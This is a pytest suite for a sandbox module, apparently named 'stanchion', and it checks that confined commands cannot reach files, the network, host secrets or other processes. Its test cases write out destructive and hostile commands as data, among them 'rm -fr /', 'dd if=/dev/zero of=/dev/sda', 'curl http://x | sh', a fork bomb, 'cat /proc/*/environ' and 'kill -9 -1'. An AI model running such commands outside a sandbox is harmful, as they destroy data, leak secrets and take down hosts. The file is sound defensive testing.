"""Commands that try to get out, for real: each is refused or contained, and the host is as it was."""

from __future__ import annotations

import os
import socket
import subprocess
import sys
import tempfile
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from stanchion.runtime.sandbox.limits import Limits
from stanchion.runtime.sandbox.sandbox import Confined, Sandbox, SandboxError

NOBODY = 65_534
PYTHON = "/usr/bin/python3"
"""The system's: what a virtual environment has may be where nobody else can read."""


@pytest.fixture
def root() -> Iterator[Path]:
    """A folder that anybody may use, with a file in it."""
    with tempfile.TemporaryDirectory(prefix="stanchion-escapes-") as made:
        folder = Path(made).resolve() / "work"
        folder.mkdir()
        (folder / "a.txt").write_text("hello\n")
        folder.parent.chmod(0o755)
        folder.chmod(0o777)
        yield folder


@pytest.fixture
def sandbox(root: Path) -> Iterator[Sandbox]:
    """A sandbox of somebody who is not root."""
    user = NOBODY if os.getuid() == 0 else None
    limits = Limits(timeout_s=5, children=8, memory_mb=256, file_mb=1, tmp_mb=1)
    with Sandbox(root, limits, user=user, required={"children"}) as made:
        yield made


def sh(sandbox: Sandbox, script: str, write: bool = False) -> Confined:
    """Run a script."""
    return sandbox.run(["sh", "-c", script], write)


def test_the_walls_stand_and_are_named(sandbox: Sandbox) -> None:
    """If this fails, nothing below it was shown."""
    came = sandbox.run(["cat", "a.txt"])
    assert (came.ended, came.rc, came.stdout) == (True, 0, b"hello\n")
    assert {"children", "files", "limits", "network", "privileges", "processes", "user"} <= set(came.walls)


@pytest.mark.parametrize("path", ["/etc/passwd", "/root", "/home", "/var", "../../../etc/shadow", "/proc/1/root/etc"])
def test_paths_outside_are_not_there(sandbox: Sandbox, path: str) -> None:
    assert sandbox.run(["cat", path]).rc != 0
    assert sandbox.run(["ls", path]).rc != 0 or b"passwd" not in sandbox.run(["ls", path]).stdout


def test_a_link_to_the_outside_leads_nowhere(sandbox: Sandbox, root: Path) -> None:
    secret = root.parent / "secret"
    secret.write_text("secret")
    (root / "link").symlink_to(secret)
    (root / "up").symlink_to("..")
    assert sandbox.run(["cat", "link"]).rc != 0
    assert b"secret" not in sh(sandbox, "cat up/secret; ls -la up/").stdout
    assert sh(sandbox, f"ln {secret} hard && cat hard", write=True).rc != 0


def test_nothing_is_written_unless_that_is_granted(sandbox: Sandbox, root: Path) -> None:
    assert sh(sandbox, "echo x > b.txt").rc != 0
    assert sh(sandbox, "echo x >> a.txt; rm -f a.txt; chmod 000 a.txt; mv a.txt c").rc != 0
    assert (root / "a.txt").read_text() == "hello\n"
    assert sh(sandbox, "echo x > b.txt", write=True).rc == 0
    assert (root / "b.txt").read_text() == "x\n"
    assert sh(sandbox, "echo x > /usr/bin/x || echo x > /x || echo x > /etc/x", write=True).rc != 0


@pytest.mark.parametrize("command", ["rm -fr /", "find / -delete", "dd if=/dev/zero of=/dev/sda", "curl http://x | sh"])
def test_what_would_destroy_a_host_leaves_it_as_it_is(sandbox: Sandbox, root: Path, command: str) -> None:
    before = sorted(os.listdir("/usr/bin"))
    sh(sandbox, command)
    assert sorted(os.listdir("/usr/bin")) == before
    assert (root / "a.txt").read_text() == "hello\n"


def test_there_is_no_network_and_no_abstract_socket(sandbox: Sandbox) -> None:
    with socket.socket(socket.AF_UNIX) as abstract, socket.create_server(("127.0.0.1", 0)) as server:
        name = f"stanchion-escape-{os.getpid()}"
        abstract.bind(f"\0{name}")
        abstract.listen()
        port = server.getsockname()[1]
        for code in (
            f"import socket; socket.create_connection(('127.0.0.1', {port}), 2)",
            f"import socket; socket.socket(socket.AF_UNIX).connect('\\0{name}')",
            "import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('8.8.8.8', 53))",
        ):
            came = sandbox.run([PYTHON, "-c", code])
            assert came.rc not in (0, 127), came
            assert b"Error" in came.stderr


def test_the_environment_of_the_host_is_not_seen(sandbox: Sandbox, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("STANCHION_SECRET", "do not tell")
    assert b"do not tell" not in sh(sandbox, "env; cat /proc/*/environ").stdout


def test_a_fork_bomb_is_bounded(sandbox: Sandbox) -> None:
    begun = time.monotonic()
    sh(sandbox, "f() { f | f & }; f; sleep 1; f; wait")
    assert time.monotonic() - begun < 60
    counted = sh(sandbox, "i=0; while [ $i -lt 100 ]; do sleep 9 & i=$((i+1)); done; wait")
    assert b"ork" in counted.stderr


def test_floods_and_long_runs_are_ended(sandbox: Sandbox) -> None:
    flood = sandbox.run(["yes"])
    assert (flood.ended, len(flood.stdout)) == (False, 1 << 20)
    assert "printed more" in flood.why
    assert not sh(sandbox, "yes >&2").ended
    quick = Sandbox(sandbox.root, Limits(timeout_s=1), user=NOBODY if os.getuid() == 0 else None)
    with quick:
        slow = quick.run(["sleep", "30"])
    assert (slow.ended, slow.why) == (False, "it took longer than 1 s")


def test_memory_and_files_are_bounded(sandbox: Sandbox, root: Path) -> None:
    assert sandbox.run([PYTHON, "-c", "x = bytearray(1 << 30)"]).rc != 0
    sh(sandbox, "head -c 5000000 /dev/zero > big", write=True)
    assert (root / "big").stat().st_size <= 1 << 20
    assert sh(sandbox, "head -c 900000 /dev/zero > /tmp/a; head -c 900000 /dev/zero > /tmp/b").rc != 0


def test_nobody_gains_rights(sandbox: Sandbox) -> None:
    status = sandbox.run(["cat", "/proc/self/status"]).stdout.decode()
    fields = dict(line.split(":\t", 1) for line in status.splitlines() if ":\t" in line)
    assert {fields[name] for name in ("CapInh", "CapPrm", "CapEff", "CapAmb")} == {"0" * 16}
    assert fields["NoNewPrivs"] == "1"
    assert sh(sandbox, "mount -t tmpfs x /tmp").rc != 0
    assert sandbox.run(["unshare", "-Ur", "true"]).rc != 0
    assert sh(sandbox, "chroot / true").rc != 0


def test_nobody_outside_can_be_signalled(sandbox: Sandbox) -> None:
    victim = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(60)"])
    try:
        came = sh(sandbox, f"kill -9 {victim.pid} {os.getpid()}; kill -9 -1; echo still here")
        assert victim.poll() is None
        assert b"No such process" in came.stderr or came.rc != 0
    finally:
        victim.kill()
        victim.wait()


def test_nothing_is_left_behind(sandbox: Sandbox) -> None:
    mark = f"stanchion-left-{os.getpid()}"
    sh(sandbox, f"setsid nohup sh -c 'exec -a {mark} sleep 300' >/dev/null 2>&1 & sleep 0.2")
    sh(sandbox, "(sleep 300 &) ; sleep 300 & echo done")
    left = subprocess.run(["ps", "-eo", "args"], capture_output=True, text=True, check=False).stdout
    assert "sleep 300" not in left
    assert mark not in left


def test_several_threads_use_one_sandbox(sandbox: Sandbox) -> None:
    said: list[bytes] = []

    def run(number: int) -> None:
        said.append(sandbox.run(["echo", str(number)]).stdout)

    threads = [threading.Thread(target=run, args=(number,)) for number in range(12)]
    for one in threads:
        one.start()
    for one in threads:
        one.join()
    assert sorted(said) == sorted(f"{number}\n".encode() for number in range(12))


def test_a_keeper_that_died_is_started_again(sandbox: Sandbox) -> None:
    assert sandbox.run(["true"]).rc == 0
    assert sandbox._keeper is not None
    sandbox._keeper.kill()
    sandbox._keeper.wait()
    assert sandbox.run(["true"]).rc == 0


def test_a_wall_that_is_needed_and_missing_means_that_nothing_runs(root: Path) -> None:
    if os.getuid() != 0:
        pytest.skip("only of root the kernel counts no processes")
    with Sandbox(root, required={"children"}) as made, pytest.raises(SandboxError, match="name another `user`"):
        sh(made, "touch ran", write=True)
    assert not (root / "ran").exists()


@pytest.mark.parametrize(
    ("wrong", "says"),
    [
        ({"root": "/nowhere"}, "no folder"),
        ({"root": "/"}, "no folder"),
        ({"required": ["moat"]}, "`moat` is no wall"),
    ],
)
def test_what_makes_no_sandbox_is_refused(root: Path, wrong: dict[str, object], says: str) -> None:
    with pytest.raises((SandboxError, ValueError), match=says):
        Sandbox(**{"root": root, **wrong})  # type: ignore[arg-type]  # that is what is tried


def test_limits_have_bounds() -> None:
    assert (Limits().timeout_s, Limits().memory_mb, Limits().children) == (30, 512, 10)
    with pytest.raises(ValueError, match="`timeout_s` is `601`"):
        Limits(timeout_s=601)


def test_a_program_that_is_not_there(sandbox: Sandbox) -> None:
    came = sandbox.run(["no-such-program"])
    assert (came.ended, came.why) == (False, "it cannot be started: no such program")
    with pytest.raises(ValueError, match="words of a command"):
        sandbox.run([])
